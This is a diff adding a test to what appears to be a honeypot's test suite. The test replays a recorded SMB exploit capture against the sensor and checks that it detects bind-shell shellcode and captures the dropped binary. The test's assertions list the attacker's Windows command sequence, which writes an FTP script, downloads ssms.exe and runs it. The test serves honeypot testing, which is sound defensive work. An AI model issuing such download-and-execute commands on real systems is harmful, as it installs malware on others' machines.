@@ -62,6 +62,61 @@ class FtpServer:
         self.server.close_all()
 
 
+@needs_corpus(HONEYNET)
+def test_honeynet_attack_end_to_end(sundew, tmp_path):
+    # The file the attacker's FTP server sent, carved from the capture's
+    # own data stream (active mode: the server connected to port 1080).
+    ssms = pcapcarve.tcp_stream(HONEYNET, ATTACKER, 2152, VICTIM, 1080)
+    assert ssms[:2] == b"MZ" and len(ssms) == 158720
+    sha = hashlib.sha256(ssms).hexdigest()
+    root = tmp_path / "ftp"
+    root.mkdir()
+    (root / "ssms.exe").write_bytes(ssms)
+    ftp = FtpServer(root, 8884)
+    try:
+        # The replay comes from 127.0.0.1, so "open 0.0.0.0 8884" in the
+        # attacker's script means 127.0.0.1:8884; the rule lets it pass.
+        d = sundew(["download.connect_to=127.0.0.1:8884:127.0.0.1:8884"])
+        r = subprocess.run([str(SUNDEW), "replay", str(HONEYNET), "--to",
+                            "127.0.0.1"], capture_output=True, text=True,
+                           timeout=120)
+        assert r.returncode == 0, r.stdout + r.stderr
+        assert "summary: 3 played, 0 failed, 2 skipped" in r.stdout, r.stdout
+        stored = d.wait_events("sundew.file.stored", kind="binary",
+                               timeout=30)
+        d.stop()
+    finally:
+        ftp.close()
+    assert ftp.retrieved == ["ssms.exe"]
+    assert [e["sha256"] for e in stored] == [sha]
+    assert (d.data / "binaries" / sha).read_bytes() == ssms
+    # One session id tells the story: the exploit's, on 445.
+    session = stored[0]["session"]
+    assert stored[0]["dst_port"] == 445
+    story = [e["eventid"] for e in d.events(session=session)]
+    detected = d.events("sundew.shellcode.detected", session=session)
+    assert len(detected) == 1
+    assert {"action": "bind_shell", "port": 1957} in [
+        {k: a[k] for k in ("action", "port")} for a in detected[0]["actions"]]
+    url = "ftp://1:1@127.0.0.1:8884/ssms.exe"
+    offers = d.events("sundew.download.offer", session=session)
+    assert [e["url"] for e in offers] == [url]
+    complete = d.events("sundew.download.complete", session=session)
+    assert [(e["url"], e["sha256"], e["size"]) for e in complete] == \
+        [(url, sha, len(ssms))]
+    commands = [e["command"] for e in
+                d.events("sundew.shell.command", session=session)]
+    assert commands == ["echo open 0.0.0.0 8884 > o", "echo user 1 1 >> o",
+                        "echo get ssms.exe >> o", "echo quit >> o",
+                        "ftp -n -s:o", "del /F /Q o", "ssms.exe", "ssms.exe"]
+    order = ["sundew.shellcode.detected", "sundew.shell.command",
+             "sundew.download.offer", "sundew.download.complete",
+             "sundew.file.stored"]
+    firsts = [story.index(e) for e in order]
+    assert firsts == sorted(firsts), story
+    assert not d.events("sundew.download.failed")
+
+
 def test_benign_payloads_open_no_port_and_fetch_nothing(sundew):
     # Programs (their help texts hold URLs and commands) and random bytes:
     # reported at most, never carried out.  One sensor, so that the
